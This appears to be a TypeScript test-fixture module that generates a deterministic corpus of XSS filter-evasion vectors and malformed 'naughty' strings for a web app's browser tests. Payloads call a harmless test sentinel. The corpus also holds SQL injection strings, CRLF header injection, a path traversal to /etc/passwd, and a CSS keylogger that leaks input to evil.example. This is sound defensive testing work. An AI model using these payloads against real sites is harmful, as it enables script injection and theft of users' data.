/**
 * The project's own hostile strings: XSS vectors of every family and naughty text, generated the same way
 * on every run (no randomness), so a failure names a case that the next run reproduces.
 *
 * Every executable payload calls `window.__xss(<id>)` instead of `alert`: a browser test installs that
 * sentinel and knows exactly which case ran. A payload is "executable" when it would call the sentinel
 * if the app ever parsed it as HTML, a URL or a template; naughty text never calls anything.
 */

/** The global a payload calls when it runs. Tests install it; nothing in the app defines it. */
export const SENTINEL = '__xss'

export type HostileFamily =
  | 'xss-script'
  | 'xss-event-handler'
  | 'xss-svg-math'
  | 'xss-url'
  | 'xss-url-in-markup'
  | 'xss-mutation'
  | 'xss-css'
  | 'xss-template'
  | 'xss-polyglot'
  | 'markup-as-text'
  | 'empty'
  | 'long'
  | 'bidi'
  | 'invisible'
  | 'combining'
  | 'emoji'
  | 'control'
  | 'sql'
  | 'template-text'
  | 'reserved-word'
  | 'unicode'

export interface HostileCase {
  /** Unique, stable between runs; what the sentinel records. */
  id: number
  family: HostileFamily
  /** A short label for failure messages (the value itself may be 100 KB of noise). */
  name: string
  value: string
  /** True when the value calls the sentinel if a browser ever treats it as code. */
  executable: boolean
}

/** The id generated cases start from; the shared lists (shared-lists.ts) use higher ranges. */
const FIRST_ID = 1

/** What a payload runs: the sentinel, called with its case's id (a number: no quotes to escape). */
const call = (id: number) => `window.${SENTINEL}(${id})`

type Template = (run: string, id: number) => string

/** Script elements, in the shapes filters miss. */
const SCRIPT: Record<string, Template> = {
  plain: (run) => `<script>${run}</script>`,
  'upper case': (run) => `<SCRIPT>${run}</SCRIPT>`,
  'mixed case with attributes': (run) => `<ScRiPt type="text/javascript">${run}</sCrIpT>`,
  'slash instead of space': (run) => `<script/xss>${run}</script>`,
  'breaking out of an attribute': (run) => `"><script>${run}</script>`,
  'breaking out of a single-quoted attribute': (run) => `'><script>${run}</script>`,
  'breaking out of a textarea': (run) => `</textarea><script>${run}</script>`,
  'breaking out of a title': (run) => `</title><script>${run}</script>`,
  'breaking out of a style element': (run) => `</style><script>${run}</script>`,
  'breaking out of a paragraph': (run) => `</p></div><script>${run}</script>`,
  'closing an inline script': (run) => `</script><script>${run}</script>`,
  'inside a comment': (run) => `<!--<script>${run}</script>-->`,
  'data: source': (run) =>
    `<script src="data:text/javascript,${encodeURIComponent(run)}"></script>`,
  'unclosed tag': (run) => `<script>${run}`,
  'line break in the tag': (run) => `<script\n>${run}</script\n>`,
  'JSON string breaker': (run) => `"}]}</script><script>${run}</script>`,
  'string breaker': (run) => `';${run};//`,
}

/** Elements that run an inline handler without a click, and the handler that fires. */
const HANDLERS: [element: string, attributes: string, event: string][] = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src=""', 'onerror'],
  ['image', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['iframe', 'src="about:blank"', 'onload'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['video', 'poster=x', 'onerror'],
  ['source', 'src=x', 'onerror'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['a', 'href="#" autofocus', 'onfocus'],
  ['div', 'tabindex=0 autofocus', 'onfocusin'],
  ['details', 'open', 'ontoggle'],
  ['marquee', '', 'onstart'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onerror'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['style', '', 'onload'],
  ['div', 'style="animation-name:spin;animation-duration:1ms"', 'onanimationstart'],
  ['div', 'style="transition:color 1ms" tabindex=0', 'ontransitionend'],
  ['div', '', 'onmouseover'],
  ['div', 'style="position:fixed;inset:0"', 'onpointerover'],
  ['p', '', 'onclick'],
  ['form', '', 'onsubmit'],
  ['table', 'background=x', 'onerror'],
  ['frameset', '', 'onload'],
]

/** Ways of writing the same handler attribute that naive filters do not match. */
const HANDLER_SPELLINGS: Record<string, (event: string, run: string) => string> = {
  'double-quoted': (event, run) => ` ${event}="${run}"`,
  'single-quoted': (event, run) => ` ${event}='${run}'`,
  unquoted: (event, run) => ` ${event}=${run}`,
  'slash-separated': (event, run) => `/${event}=${run}`,
  'mixed case': (event, run) => ` ${mixedCase(event)}="${run}"`,
  'new line before it': (event, run) => `\n${event}\n=\n"${run}"`,
  'entity-encoded body': (event, run) => ` ${event}="${htmlEntities(run)}"`,
}

const SVG_MATH: Record<string, Template> = {
  'script inside svg': (run) => `<svg><script>${run}</script></svg>`,
  'script with an href in svg': (run) =>
    `<svg><script href="data:text/javascript,${encodeURIComponent(run)}"></script></svg>`,
  'animate onbegin': (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  'set onbegin': (run) => `<svg><set onbegin="${run}" attributeName=x to=1></svg>`,
  'set an href to javascript:': (run) =>
    `<svg><a><set attributeName=href to="javascript:${run}"/><text y=20>link</text></a></svg>`,
  'xlink:href to javascript:': (run) =>
    `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>link</text></a></svg>`,
  'foreignObject with an image': (run) =>
    `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`,
  'style inside svg': (run) => `<svg><style><img src=x onerror="${run}"></style></svg>`,
  'use with a data: document': (run) =>
    `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${run}'/&gt;&lt;/svg&gt;#x"/></svg>`,
  'math href': (run) => `<math href="javascript:${run}">click</math>`,
  'maction xlink:href': (run) =>
    `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  'mglyph style namespace confusion': (run) =>
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  'iframe srcdoc in foreignObject': (run) =>
    `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.${run.replace('window.', '')}&lt;/script&gt;"></iframe></foreignObject></svg>`,
}

/** Dangerous URL schemes, each spelled the ways browsers still accept. */
function urlVariants(run: string): Record<string, { url: string; executable: boolean }> {
  const js = `javascript:${run}`
  const html = `<script>${run}</script>`
  return {
    'javascript:': { url: js, executable: true },
    'javascript: in mixed case': { url: `JaVaScRiPt:${run}`, executable: true },
    'javascript: with decimal entities': { url: decimalEntities(js), executable: true },
    'javascript: with zero-padded entities': {
      url: [...js].map((c) => `&#000${c.codePointAt(0)}`).join(''),
      executable: true,
    },
    'javascript: with hex entities': { url: hexEntities(js), executable: true },
    'javascript: with a named colon': { url: `javascript&colon;${run}`, executable: true },
    'javascript: percent-encoded': {
      url: [...'javascript'].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('') + `:${run}`,
      executable: false,
    },
    'javascript: with leading spaces': { url: `   ${js}`, executable: true },
    'javascript: with a tab and a new line inside': {
      url: `\tjava\nscr\tipt:${run}`,
      executable: true,
    },
    'javascript: with an encoded tab': { url: `java&#x09;script:${run}`, executable: true },
    'javascript: after control characters': { url: `\u0001\u0010\u001f${js}`, executable: true },
    'javascript: after a NUL': { url: `\u0000${js}`, executable: true },
    'javascript: comment then new line': { url: `javascript://%0a${run}`, executable: true },
    'javascript: with a fullwidth colon': { url: `javascript\uff1a${run}`, executable: false },
    'vbscript:': { url: 'vbscript:msgbox(1)', executable: false },
    'data: HTML': { url: `data:text/html,${html}`, executable: true },
    'data: HTML in base64': {
      url: `data:text/html;base64,${btoa(html)}`,
      executable: true,
    },
    'data: SVG': {
      url: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
      executable: true,
    },
    'data: in mixed case': { url: `DaTa:text/html,${html}`, executable: true },
    'protocol-relative with a backslash': { url: '/\\evil.example/', executable: false },
    'protocol-relative': { url: '//evil.example/x.png', executable: false },
    'an invalid host': { url: 'http://[::1', executable: false },
    'a space in the host': { url: 'https://ex ample.org/', executable: false },
    'a file: URL': { url: 'file:///etc/passwd', executable: false },
  }
}

/** Where markup carries a URL that can run. */
const URL_SINKS: Record<string, (url: string) => string> = {
  'a href': (url) => `<a href="${url}">Read more</a>`,
  'iframe src': (url) => `<iframe src="${url}"></iframe>`,
  'form action': (url) => `<form action="${url}"><button>Send</button></form>`,
  'button formaction': (url) => `<form><button formaction="${url}">Send</button></form>`,
  'object data': (url) => `<object data="${url}"></object>`,
  'embed src': (url) => `<embed src="${url}">`,
  'area href': (url) => `<map name=m><area href="${url}" shape=default></map>`,
  'base href': (url) => `<base href="${url}">`,
  'meta refresh': (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
}

/** Mutation XSS and nested forms: strings that change meaning when parsed, serialized and parsed again. */
const MUTATIONS: Record<string, Template> = {
  'nested script tag': (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  'noscript title breakout': (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'svg style breakout': (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  'math comment breakout': (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${run}&gt;">`,
  'form in math': (run) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  'xmp title breakout': (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  'textarea title breakout': (run) => `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  'iframe in title': (run) => `<title><iframe title="</title><img src=x onerror=${run}>">`,
  'image in an attribute': (run) => `<a title="<img src=x onerror=${run}>">hover</a>`,
  'double angle brackets': (run) => `<<img src=x onerror=${run}>>`,
  'unterminated quote': (run) => `<img src="x\` onerror=${run}>`,
  'empty quoted attributes': (run) => `<img """><script>${run}</script>">`,
  'bogus comment': (run) => `<!-- --!><img src=x onerror=${run}> -->`,
  'processing instruction': (run) => `<?xml version="1.0"?><img src=x onerror=${run}>`,
  CDATA: (run) => `<![CDATA[<img src=x onerror=${run}>]]>`,
  'template content': (run) => `<template><img src=x onerror=${run}></template>`,
  'iframe srcdoc with entities': (run) =>
    `<iframe srcdoc="&lt;script&gt;parent.${run.replace('window.', '')}&lt;/script&gt;"></iframe>`,
  'DOM clobbering': () =>
    `<form id="__xss"></form><img name="getElementById"><a id="location" href="https://evil.example/">x</a>`,
  'attribute without a space': (run) => `<img src=x"onerror=${run}>`,
  'NUL inside the tag name': (run) => `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  'half-open tag': (run) => `<img src=x onerror=${run}//`,
  'tag in an entity-encoded string': (run) => `&lt;img src=x onerror=${run}&gt;`,
}

const CSS: Record<string, Template> = {
  'expression()': (run) => `<div style="width:expression(${run})">x</div>`,
  'url(javascript:)': (run) => `<div style="background:url(javascript:${run})">x</div>`,
  'url() in a style element': (run) => `<style>body{background:url("javascript:${run}")}</style>`,
  '@import javascript:': (run) => `<style>@import 'javascript:${run}';</style>`,
  'behavior and binding': () =>
    `<div style="behavior:url(x.htc);-moz-binding:url(http://evil.example/x.xml#x)">x</div>`,
  'escaped expression': (run) => `<div style="w\\idth:ex\\pression(${run})">x</div>`,
  'comment inside expression': (run) => `<div style="width:exp/**/ression(${run})">x</div>`,
  'stylesheet link': (run) => `<link rel=stylesheet href="javascript:${run}">`,
  'overlay over the page': () =>
    `<div style="position:fixed;inset:0;z-index:2147483647;background:#c00">Page taken over</div>`,
  'keylogger by attribute selector': () =>
    `<style>input[value^="a"]{background:url(https://evil.example/a)}</style>`,
  'raw CSS text': (run) => `}body{background:url(javascript:${run})}</style><style>{`,
}

const TEMPLATES: Record<string, Template> = {
  'Angular constructor': (run) => `{{constructor.constructor('${run}')()}}`,
  'Angular $on': (run) => `{{$on.constructor('${run}')()}}`,
  'Angular ng-focus': (_run, id) =>
    `<div ng-app ng-csp><input autofocus ng-focus="$event.view.${SENTINEL}(${id})"></div>`,
  'Vue v-html expression': (run) => `<div v-html="''.constructor.constructor('${run}')()">x</div>`,
  'JavaScript template literal': (run) => `\${${run}}`,
  'Ruby interpolation': (run) => `#{${run}}`,
  'ERB and JSP': (run) => `<%= ${run} %>`,
  'Jinja and Twig': (run) => `{{ ${run} }}{% raw %}`,
  'Handlebars triple stash': (run) => `{{{ ${run} }}}`,
}

/** Vectors from the OWASP filter-evasion cheat sheet that run from several contexts at once. */
const POLYGLOTS: Record<string, Template> = {
  'the 0xsobky polyglot': (run) =>
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${run}//>\\x3e`,
  'attribute, script and comment polyglot': (run) =>
    `'"--></style></script><svg onload=${run}><!--`,
}

const ZALGO = (() => {
  // Thirty combining marks on every letter: each mark stacked the same way on every run.
  const marks = Array.from({ length: 112 }, (_, i) => String.fromCodePoint(0x300 + i))
  return [...'ZALGO is here']
    .map((c, i) =>
      c === ' '
        ? c
        : c + Array.from({ length: 30 }, (_, j) => marks[(i * 7 + j * 13) % 112]).join(''),
    )
    .join('')
})()

const C0 = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('')
const C1 = Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join('')

/** A 100 KB (102,400 UTF-16 units) run of readable words, with spaces to wrap at. */
const HUNDRED_KB_TEXT = 'All work and no play makes a very long story. '
  .repeat(2300)
  .slice(0, 102_400)
/** 100 KB with nowhere to break a line: the layout must wrap it or scroll it, never widen the page. */
const HUNDRED_KB_WORD = 'Pneumonoultramicroscopicsilicovolcanoconiosis'
  .repeat(2300)
  .slice(0, 102_400)

const NAUGHTY: [HostileFamily, string, string][] = [
  ['empty', 'the empty string', ''],
  ['empty', 'one space', ' '],
  ['empty', 'only whitespace', ' \t\n\r\u00a0\u3000'],
  ['long', '100 KB of words', HUNDRED_KB_TEXT],
  ['long', '100 KB word without a break', HUNDRED_KB_WORD],
  ['long', 'a 300-character word', 'x'.repeat(300)],
  ['long', 'a 2,000-character URL-like word', `https://example.org/${'a/'.repeat(990)}`],
  ['long', '10,000 line breaks', '\n'.repeat(10_000)],
  ['bidi', 'right-to-left override', '\u202Eevil\u202C'],
  ['bidi', 'unterminated right-to-left override', 'Breaking: \u202Etxt.exe'],
  ['bidi', 'left-to-right override in Arabic', '\u202Dمرحبا بالعالم'],
  ['bidi', 'right-to-left isolate without its end', '\u2067abc'],
  ['bidi', 'Hebrew', 'שלום עולם'],
  ['bidi', 'Hebrew and English with numbers', 'הכותרת 2024 headline 42'],
  ['bidi', 'right-to-left mark then Latin', '\u200Fhello'],
  ['invisible', 'a zero-width space', '\u200B'],
  [
    'invisible',
    'zero-width joiners and no-break space',
    'zero\u200Bwidth\u200Cnon\u200Djoin\uFEFFbom',
  ],
  ['invisible', 'only invisible characters', '\u200B\u200C\u200D\u2060\uFEFF'],
  ['invisible', 'soft hyphens', 'in\u00ADvis\u00ADi\u00ADble'],
  ['combining', 'Zalgo text', ZALGO],
  ['combining', 'decomposed accents', 'Cafe\u0301 Ame\u0301lie'],
  ['combining', 'a combining mark with no base', '\u0301\u0302\u0303'],
  ['emoji', 'family ZWJ sequence', '👩‍👩‍👧‍👦'],
  ['emoji', 'rainbow flag', '🏳️‍🌈'],
  ['emoji', 'flags', '🇬🇧🇺🇦🇯🇵'],
  ['emoji', 'skin tones', '👍🏽👋🏿'],
  ['emoji', 'keycaps', '1️⃣#️⃣'],
  ['emoji', 'many emoji', '🔥'.repeat(500)],
  ['emoji', 'a lone surrogate', 'broken \uD83D here'],
  ['unicode', 'mathematical letters', '𝕳𝖊𝖑𝖑𝖔 𝔀𝓸𝓻𝓵𝓭'],
  ['unicode', 'fullwidth markup', '＜script＞alert(1)＜/script＞'],
  ['unicode', 'CJK', '田中さんにあげて下さい 社會科學院語學研究所'],
  ['unicode', 'noncharacters and replacement', '\uFFFE\uFFFF\uFFFD'],
  ['unicode', 'line and paragraph separators', 'one\u2028two\u2029three'],
  ['unicode', 'Turkish dotted and dotless i', 'İstanbul ıi'],
  ['control', 'a NUL', 'a\u0000b'],
  ['control', 'every C0 control', `C0:${C0}:end`],
  ['control', 'every C1 control', `C1:${C1}:end`],
  ['control', 'DEL', 'del\u007Fete'],
  ['control', 'CRLF header injection', 'a\r\nSet-Cookie: session=stolen'],
  ['control', 'escape sequences', '\u001b[31mred\u001b[0m'],
  ['sql', 'classic or', "' OR '1'='1"],
  ['sql', 'drop table', "'; DROP TABLE articles;--"],
  ['sql', 'sleep', '1; SELECT pg_sleep(10)--'],
  ['sql', 'union', '" UNION SELECT password FROM users --'],
  ['template-text', 'moustache arithmetic', '{{7*7}}'],
  ['template-text', 'dollar brace', '${7*7}'],
  ['template-text', 'ERB', '<%= 7*7 %>'],
  ['template-text', 'format string', '%s%s%s%n%x%d'],
  ['template-text', 'regex replacement patterns', "$& $' $` $1"],
  ['reserved-word', '__proto__', '__proto__'],
  ['reserved-word', 'constructor', 'constructor'],
  ['reserved-word', 'hasOwnProperty', 'hasOwnProperty'],
  ['reserved-word', 'then', 'then'],
  ['reserved-word', 'undefined', 'undefined'],
  ['reserved-word', 'null', 'null'],
  ['reserved-word', 'NaN', 'NaN'],
  ['reserved-word', 'Infinity', '-Infinity'],
  ['markup-as-text', 'bold tags', '<b>bold</b> and <i>italic</i>'],
  ['markup-as-text', 'HTML entities', '&lt;b&gt; &amp; &nbsp; &quot; &#39;'],
  ['markup-as-text', 'a comment', '<!-- hidden -->visible'],
  ['markup-as-text', 'CDATA end', ']]>'],
  ['markup-as-text', 'a closing script tag', '</script>'],
  ['markup-as-text', 'JSON breaker', '"}]},{"x":"'],
  ['markup-as-text', 'backslashes', '\\ \\\\ \\u0000 \\n'],
  ['markup-as-text', 'path traversal', '../../../../etc/passwd'],
]

/** Every generated case, in a fixed order with fixed ids. */
export function hostileCases(): HostileCase[] {
  const cases: HostileCase[] = []
  let id = FIRST_ID
  const add = (family: HostileFamily, name: string, make: Template) => {
    const caseId = id++
    const value = make(call(caseId), caseId)
    cases.push({ id: caseId, family, name, value, executable: callsSentinel(value, caseId) })
  }

  for (const [name, make] of Object.entries(SCRIPT)) add('xss-script', `script: ${name}`, make)
  for (const [element, attributes, event] of HANDLERS) {
    for (const [spelling, attribute] of Object.entries(HANDLER_SPELLINGS)) {
      add('xss-event-handler', `<${element} ${event}>, ${spelling}`, (run) => {
        const opening = `<${element}${attributes ? ` ${attributes}` : ''}${attribute(event, run)}>`
        return `${opening}x</${element}>`
      })
    }
  }
  for (const [name, make] of Object.entries(SVG_MATH)) add('xss-svg-math', name, make)
  // Each scheme once as a bare URL (for image sources and link targets) and once in every markup sink.
  const schemes = Object.keys(urlVariants(''))
  for (const scheme of schemes) {
    const caseId = id++
    const { url, executable } = urlVariants(call(caseId))[scheme]!
    cases.push({ id: caseId, family: 'xss-url', name: `URL: ${scheme}`, value: url, executable })
  }
  for (const scheme of schemes) {
    for (const [sink, wrap] of Object.entries(URL_SINKS)) {
      const caseId = id++
      const { url, executable } = urlVariants(call(caseId))[scheme]!
      cases.push({
        id: caseId,
        family: 'xss-url-in-markup',
        name: `${sink}: ${scheme}`,
        value: wrap(url.replaceAll('"', '&quot;')),
        executable,
      })
    }
  }
  for (const [name, make] of Object.entries(MUTATIONS)) add('xss-mutation', name, make)
  for (const [name, make] of Object.entries(CSS)) add('xss-css', `CSS: ${name}`, make)
  for (const [name, make] of Object.entries(TEMPLATES))
    add('xss-template', `template: ${name}`, make)
  for (const [name, make] of Object.entries(POLYGLOTS)) add('xss-polyglot', name, make)
  for (const [family, name, value] of NAUGHTY) add(family, name, () => value)
  return cases
}

/** The cases a browser may be asked to navigate to or load: the bare URLs. */
export const urlCases = (cases: HostileCase[] = hostileCases()) =>
  cases.filter((c) => c.family === 'xss-url')

/** Splits a list into runs of `size`, the last one shorter: many cases per render. */
export function batches<T>(items: readonly T[], size: number): T[][] {
  const out: T[][] = []
  for (let i = 0; i < items.length; i += size) out.push(items.slice(i, i + size))
  return out
}

/** A one-line label for a failure message: the case's id, family and name, and the start of its value. */
export function describeCase(c: HostileCase): string {
  const preview = JSON.stringify(c.value.length > 60 ? `${c.value.slice(0, 60)}…` : c.value)
  return `#${c.id} ${c.family} / ${c.name}: ${preview} (${c.value.length} chars)`
}

/**
 * True when the value calls the sentinel with this id, read as a browser would: after decoding HTML
 * entities and percent-escapes once. Vectors that only restyle or clobber the page call nothing.
 */
export function callsSentinel(value: string, id: number): boolean {
  const decoded = value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/g, ':')
  return [value, decoded].some((text) => text.includes(`${SENTINEL}(${id})`))
}

function mixedCase(text: string): string {
  return [...text].map((c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join('')
}

function decimalEntities(text: string): string {
  return [...text].map((c) => `&#${c.codePointAt(0)};`).join('')
}

function hexEntities(text: string): string {
  return [...text].map((c) => `&#x${c.codePointAt(0)!.toString(16)};`).join('')
}

/** Entity-encodes the characters a handler's code needs, as a filter that decodes once would miss. */
function htmlEntities(text: string): string {
  return text.replace(/[().]/g, (c) => `&#${c.charCodeAt(0)};`)
}
